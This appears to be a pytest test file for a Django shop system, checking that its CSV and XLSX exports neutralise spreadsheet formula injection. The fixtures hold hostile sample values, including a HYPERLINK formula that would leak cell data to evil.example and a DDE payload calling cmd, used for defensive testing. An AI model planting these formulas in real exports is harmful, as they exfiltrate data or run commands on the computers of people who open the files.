"""Formula (CSV) injection: a name starting with =, +, -, @, tab or CR reaches no csv/xlsx export as a
formula. Each export of the shop is checked: the report writers (xlsx and csv), the sales-lines ledger,
the admin's import-export resources (products, categories, stock movements) and the stock valuation."""

import csv
import importlib
import inspect
import io
import pkgutil
from decimal import Decimal

import pytest
from django.test import Client
from import_export import resources
from openpyxl import load_workbook

import pos
from pos.core.cells import SafeExportMixin
from pos.inventory.services import adjust_stock
from pos.payments.services import pay_cash
from pos.sales.services import LineRequest, create_sale, open_shift
from tests.factories import CategoryFactory, ProductFactory

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
EVIL_CATEGORY = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def evil(manager, cashier):
    category = CategoryFactory(name=EVIL_CATEGORY)
    product = ProductFactory(name=EVIL, sku="+EVIL-1", category=category, price=Decimal("100.00"),
                             cost_price=Decimal("60.00"))
    adjust_stock(product, Decimal(5), user=manager, reason="-opening stock")
    open_shift(cashier, Decimal(0))
    sale, _ = create_sale(cashier=cashier, items=[LineRequest(Decimal(1), product=product.pk)])
    pay_cash(sale, amount_tendered=Decimal(100), user=cashier)
    return product


def browser(user):
    client = Client()
    client.force_login(type(user).objects.get(pk=user.pk))
    return client


def xlsx_values(content):
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    return cells


def assert_xlsx_safe(content, *texts):
    cells = xlsx_values(content)
    assert not [c.value for c in cells if c.data_type == "f"], "a cell is a formula"
    values = [c.value for c in cells if isinstance(c.value, str)]
    for text in texts:
        assert "'" + text in values, f"{text!r} not found neutralised"
        assert text not in values


def assert_csv_safe(text, *needles):
    values = [value for row in csv.reader(io.StringIO(text)) for value in row]
    for needle in needles:
        assert "'" + needle in values, f"{needle!r} not found neutralised"
        assert needle not in values


@pytest.mark.django_db
@pytest.mark.parametrize("url", ["/api/reports/sales/", "/api/reports/inventory/", "/api/reports/profit/",
                                 "/api/reports/dashboard/"])
def test_report_exports_neutralise_formulas(api, manager, evil, url):
    params = {"period": "today"} if "dashboard" not in url else {}
    xlsx = api(manager).get(url, {**params, "format": "xlsx"})
    assert xlsx.status_code == 200
    assert_xlsx_safe(b"".join(xlsx.streaming_content), EVIL)  # report files stream
    text = api(manager).get(url, {**params, "format": "csv"})
    assert text.status_code == 200
    assert_csv_safe(b"".join(text.streaming_content).decode(), EVIL)


@pytest.mark.django_db
def test_sales_lines_ledger_neutralises_formulas(api, bookkeeper, evil):
    text = api(bookkeeper).get("/api/reports/sales-lines/export/", {"period": "today", "format": "csv"})
    assert text.status_code == 200
    assert_csv_safe(b"".join(text.streaming_content).decode(), EVIL, EVIL_CATEGORY, "+EVIL-1")
    xlsx = api(bookkeeper).get("/api/reports/sales-lines/export/", {"period": "today", "format": "xlsx"})
    assert xlsx.status_code == 200
    assert_xlsx_safe(b"".join(xlsx.streaming_content), EVIL, EVIL_CATEGORY, "+EVIL-1")


@pytest.mark.django_db
def test_product_and_category_admin_exports_neutralise_formulas(bookkeeper, evil):
    client = browser(bookkeeper)
    for model, prefix, needles in [("product", "productresource_", (EVIL, EVIL_CATEGORY, "+EVIL-1")),
                                   ("category", "categoryresource_", (EVIL_CATEGORY,))]:
        form = client.get(f"/admin/catalog/{model}/export/").context["form"]
        fields = {name: "on" for name in form.fields if name.startswith(prefix)}
        xlsx = client.post(f"/admin/catalog/{model}/export/", {"format": "0", "resource": "0", **fields})
        assert xlsx.status_code == 200
        assert_xlsx_safe(xlsx.content, *needles)
        text = client.post(f"/admin/catalog/{model}/export/", {"format": "1", "resource": "0", **fields})
        assert_csv_safe(text.content.decode(), *needles)


@pytest.mark.django_db
def test_stock_movement_export_neutralises_formulas(bookkeeper, evil):
    client = browser(bookkeeper)
    form = client.get("/admin/inventory/stockmovement/export/").context["form"]
    fields = {name: "on" for name in form.fields if name.startswith("stockmovementresource_")}
    xlsx = client.post("/admin/inventory/stockmovement/export/", {"format": "0", "resource": "0", **fields})
    assert xlsx.status_code == 200
    assert_xlsx_safe(xlsx.content, EVIL, "+EVIL-1", "-opening stock")
    text = client.post("/admin/inventory/stockmovement/export/", {"format": "1", "resource": "0", **fields})
    assert_csv_safe(text.content.decode(), EVIL, "+EVIL-1")


@pytest.mark.django_db
def test_stock_valuation_neutralises_formulas(bookkeeper, evil):
    response = browser(bookkeeper).get("/admin/inventory/stockmovement/valuation/")
    assert response.status_code == 200
    assert_xlsx_safe(response.content, EVIL, EVIL_CATEGORY, "+EVIL-1")


def test_every_import_export_resource_uses_the_rule():
    for module in pkgutil.walk_packages(pos.__path__, "pos."):
        if module.name.endswith(("resources", ".admin")):
            importlib.import_module(module.name)
    found = [cls for cls in _subclasses(resources.Resource) if cls.__module__.startswith("pos.")]
    assert found
    for cls in found:
        assert issubclass(cls, SafeExportMixin), f"{cls.__module__}.{cls.__name__} exports without safe_cell"
    assert inspect.getmodule(SafeExportMixin).__name__ == "pos.core.cells"


def _subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _subclasses(sub)
